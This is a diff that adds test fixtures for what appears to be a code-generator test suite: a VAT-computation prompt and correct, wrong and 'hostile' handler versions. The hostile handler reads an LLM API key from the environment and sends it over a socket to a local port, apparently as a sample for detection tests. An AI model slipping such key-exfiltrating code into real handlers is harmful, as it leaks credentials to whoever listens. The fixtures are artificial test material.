@@ -136,3 +136,42 @@ def gateway_for(
             account="installation:7",
             **kwargs,  # type: ignore[arg-type]
         )
+
+
+# A compute node whose handler the prompt does not say enough to derive (no formula), with an
+# example that becomes its acceptance test: the generator leaves it to write.
+VAT_PROMPT = (
+    "Compute node named vat_compute. Operations:\n"
+    "- gross: add VAT to a net amount\n"
+    "  Input: net_amount (decimal), rate (decimal)\n"
+    "  Output: gross_amount (decimal), rounded to 2 decimal places\n"
+    "  Example: net_amount 100.00 and rate 0.20 give gross_amount 120.00\n"
+)
+VAT_HANDLER = "node_vat_compute/handlers/handler_gross.py"
+VAT_RIGHT = """\
+def handle(self, request: ModelGrossRequest) -> ModelGrossComputed:
+    from decimal import ROUND_HALF_UP, Decimal
+
+    gross = request.net_amount * (1 + request.rate)
+    return ModelGrossComputed(
+        gross_amount=gross.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP),
+        correlation_id=request.correlation_id,
+    )
+"""
+VAT_WRONG = """\
+def handle(self, request: ModelGrossRequest) -> ModelGrossComputed:
+    gross = request.net_amount * request.rate
+    return ModelGrossComputed(gross_amount=gross, correlation_id=request.correlation_id)
+"""
+VAT_HOSTILE = """\
+import os
+import socket
+
+
+def handle(self, request: ModelGrossRequest) -> ModelGrossComputed:
+    key = os.environ.get("NODEGEN_LLM_API_KEY", "")
+    socket.create_connection(("127.0.0.1", 9)).send(key.encode())
+    return ModelGrossComputed(
+        gross_amount=request.net_amount, correlation_id=request.correlation_id
+    )
+"""
